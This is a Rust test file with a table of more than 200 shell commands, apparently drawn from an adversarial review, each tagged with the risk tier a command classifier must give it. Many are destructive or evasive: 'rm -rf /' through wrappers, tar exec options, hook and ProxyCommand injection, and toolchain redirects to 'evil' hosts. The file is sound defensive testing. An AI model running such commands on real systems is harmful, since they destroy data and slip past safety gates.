//! The holes an adversarial review found, as table rows: each attack with the tier it must now
//! get, and the ordinary commands beside it that must keep theirs.

/// Each line: the expected tier, then the command.
const HOLES: &str = r#"
mutate   bash -c serverless destroy'
mutate   npm run
mutate   PS4='x' ls
mutate   PS0=x ls
mutate   PS1=x ls
mutate   PS2=x ls
mutate   PROMPT_COMMAND=ls ls
mutate   SHELLOPTS=xtrace ls
mutate   BASHOPTS=extdebug ls
mutate   CDPATH=/tmp ls
mutate   HOME=/tmp git status
mutate   export BASH_ENV=./x.sh
mutate   ENV=./x.sh ls
mutate   hash -p /tmp/evil ls
mutate   hash
destroy  kubectl delete ns prod --dry-run=False
destroy  kubectl delete ns prod --dry-run=0
destroy  kubectl delete ns prod --dry-run=f
destroy  kubectl delete ns prod --dry-run=F
destroy  kubectl delete ns prod --dry-run=FALSE
destroy  kubectl delete ns prod --dry-run
destroy  kubectl delete ns prod --dry-run=server --dry-run=none
destroy  kubectl delete ns prod -- --dry-run=client
mutate   kubectl exec pod -- sh -c 'rm -rf /data' --dry-run=client
mutate   kubectl exec pod --dry-run=client -- ls
mutate   kubectl run web --image=busybox -- sh -c 'echo' --dry-run=client
destroy  helm uninstall prod --dry-run=0
destroy  helm rollback prod 1 --dry-run=f
mutate   helm upgrade web ./chart --dry-run=client --dry-run=false
plan     kubectl delete ns prod --dry-run=none --dry-run=server
plan     kubectl run web --image=busybox --dry-run=client
plan     helm install web ./chart --dry-run=true
plan     helm uninstall web --dry-run
destroy  ./bin/terraform -chdir=infra destroy
mutate   ./bin/terraform -chdir=infra plan
destroy  bin/cat -c 'terraform destroy -auto-approve'
mutate   bin/cat main.tf
mutate   /tmp/x/cat main.tf
destroy  /opt/terraform/bin/terraform destroy
mutate   TF_LOG=trace TF_LOG_PATH=~/.bashrc terraform validate
destroy  TF_LOG_PATH=terraform.tfstate terraform plan
destroy  terraform plan -out=terraform.tfstate
destroy  TF_CLI_ARGS_plan=-out=terraform.tfstate terraform plan
mutate   TF_CLI_ARGS_plan=-out=Makefile terraform plan
mutate   kubectl --log-file ~/.bashrc get pods
mutate   kubectl --profile-output=x.pprof --profile=cpu get pods
mutate   kubectl --profile=cpu get pods
mutate   aws s3api get-object --bucket b --key k main.tf
destroy  aws s3api get-object --bucket b --key k terraform.tfstate
mutate   aws lambda invoke --function-name f out.json
mutate   go env -w GOTOOLCHAIN=go1.99.0 GOPROXY=https://evil GOSUMDB=off
mutate   GOTOOLCHAIN=go1.99.0 go version
mutate   CC='sh -c x' go vet
mutate   go vet -vettool=./x ./...
mutate   ansible-galaxy collection install evil list
read     ansible-galaxy collection list
mutate   terraform init -from-module=git::https://evil/x
mutate   KUBECONFIG=./kc.yaml kubectl get pods
mutate   export KUBECONFIG=./kc.yaml
mutate   AWS_CONFIG_FILE=./cfg aws s3 ls
mutate   read -r PATH
mutate   printf -v PATH '%s' /tmp
plan     TF_WORKSPACE=prod terraform plan
plan     TF_VAR_x_path=1 terraform plan
plan     TF_LOG=debug terraform plan
read     AWS_PROFILE=prod aws s3 ls
read     AWS_REGION=eu-west-1 aws ec2 describe-instances
read     OUT_DIR=build; echo done
mutate   tar -tf a.tar --checkpoint=1 --checkpoint-action=exec='sh -c id'
mutate   tar -t -I 'sh -c id' -f a.tar
mutate   tar -tf a.tar --use-compress-program=./x
mutate   tar -tf a.tar --to-command=./x
mutate   tar -t -F ./x -f a.tar
mutate   tar --info-script=./x -tf a.tar
mutate   tar --new-volume-script=./x -tf a.tar
mutate   tar --rsh-command=./x -tf host:a.tar
mutate   sort -S1k --compress-program=./x big
read     tar -tf a.tar
read     tar tzf a.tgz
destroy  aws ec2 --v2-debug terminate-instances --instance-ids i-1
destroy  aws --frob ec2 terminate-instances --instance-ids i-1
mutate   aws ec2 --frob describe-instances
mutate   aws ec2
destroy  aws ec2 --debug terminate-instances --instance-ids i-1
read     aws ec2 describe-instances --debug
read     aws --version
read     aws help
plan     aws ec2 run-instances --image-id a --dry-run
mutate   aws ec2 run-instances --image-id a --dry-run --no-dry-run
read     kubectl --kubeconfig=./kc.yaml get pods
read     git --git-dir=sub/evil status
read     git -C sub status
destroy  rm -f *
destroy  rm -f terraform.tfstat*
destroy  mv * /tmp/
destroy  sed -i 's/a/b/' *
destroy  gzip *
destroy  echo x > *.tfstate
destroy  rm -f terraform.{tfstate,x}
mutate   rm -f *.log
mutate   rm -rf target/*
mutate   make -f evil.mk test
mutate   git rebase -x 'make test' main
mutate   git bisect run make test
mutate   git push --receive-pack=./x origin
mutate   git fetch --upload-pack=./x origin
mutate   git clone -u ./x https://example.com/r.git
mutate   git config core.fsmonitor ./x
mutate   ssh -o ProxyCommand=./x host
mutate   rsync -e ./x a host:b
mutate   docker run -v /:/h alpine
mutate   docker run --privileged alpine
mutate   npx cowsay hi
mutate   npm exec -- cowsay hi
mutate   pnpm dlx cowsay hi
mutate   yarn dlx cowsay hi
mutate   uv run pytest
mutate   uvx ruff check
mutate   poetry run pytest
mutate   pipenv run pytest
mutate   conda run -n env pytest
mutate   bundle exec rake
mutate   helm upgrade web ./chart --post-renderer ./x
mutate   kubectl exec web -- ls
destroy  npx terraform destroy
destroy  uv run terraform destroy
destroy  poetry run kubectl delete ns x
destroy  npx -c 'terraform destroy'
destroy  terragrunt destroy-all
destroy  terragrunt apply-all
destroy  terragrunt run-all destroy
destroy  terragrunt run --all destroy
destroy  terragrunt stack run destroy
destroy  terragrunt exec -- terraform destroy
destroy  terragrunt backend delete
plan     terragrunt plan-all
destroy  cdktf destroy
destroy  cdktf deploy
read     cdktf synth
destroy  gcloud storage rm -r gs://b
destroy  gsutil rm gs://b/x
destroy  gsutil rsync -d a gs://b
destroy  gcloud secrets versions destroy 1 --secret=s
destroy  az deployment group create -g rg -f main.bicep --mode Complete
mutate   az deployment group create -g rg -f main.bicep --mode Incremental
read     gsutil ls gs://b
read     gcloud storage ls gs://b
destroy  pulumi watch
destroy  pulumi stack import --file s.json
destroy  git restore .
destroy  git restore -W -S main.tf
mutate   git restore --staged main.tf
destroy  git checkout -f main
mutate   git checkout main
destroy  git rm -f main.tf
mutate   git rm --cached main.tf
destroy  git update-ref -d refs/heads/x
destroy  git reflog expire --expire=now --all
destroy  git gc --prune=now
mutate   git gc
destroy  git prune
destroy  git switch --discard-changes main
destroy  tar -cf terraform.tfstate .
destroy  tar cf terraform.tfstate .
destroy  tar -czvf terraform.tfstate.backup .
mutate   tar -czf out.tgz .
destroy  git log --output=terraform.tfstate
destroy  git archive -o terraform.tfstate HEAD
mutate   git archive -o out.tar HEAD
destroy  rsync x terraform.tfstate
destroy  aws s3 cp s3://b/k terraform.tfstate
destroy  aws s3 cp s3://b/terraform.tfstate .
destroy  curl -o terraform.tfstate https://example.com/x
destroy  scp host:x terraform.tfstate
destroy  kubectl cp pod:/x terraform.tfstate
destroy  kubectl apply --force -f a.yaml
destroy  busybox rm -rf /
destroy  toybox rm -rf /
read     busybox ls
destroy  systemd-run rm -rf /
destroy  systemd-run --user --on-active=60 terraform destroy
destroy  env -S'terraform destroy'
destroy  eksctl delete cluster x
destroy  vault kv delete secret/x
destroy  gh repo delete o/r
destroy  argocd app delete x
destroy  minikube delete
mutate   eksctl create cluster
destroy  psql -c 'DROP TABLE users'
mutate   psql -c 'select 1'
mutate   dc -e '!ls'
destroy  journalctl --vacuum-time=1s
read     journalctl -u nginx
mutate   date 010203042030
read     date +%s
read     date -d '2 days ago' +%F
mutate   mount -a
read     mount
read     terraform state pull
read     terraform output -json
read     kubectl get secret db -o yaml
read     gcloud auth print-access-token
read     aws sts get-session-token
mutate   ./bin/sh -c 'ls'
mutate   tools/nohup ls
destroy  ./bin/env X=1 sh -c 'terraform destroy'
read     nohup ls
destroy  yarn terraform destroy
mutate   docker compose down
mutate   yarn add left-pad
mutate   git archive --remote=x --exec=./evil HEAD
mutate   git init --template=./hooks
mutate   git init
mutate   git clone -c core.hooksPath=./h https://example.com/r.git
"#;

#[test]
fn every_hole_is_closed() {
    assert!(super::check_table(HOLES) >= 200);
}
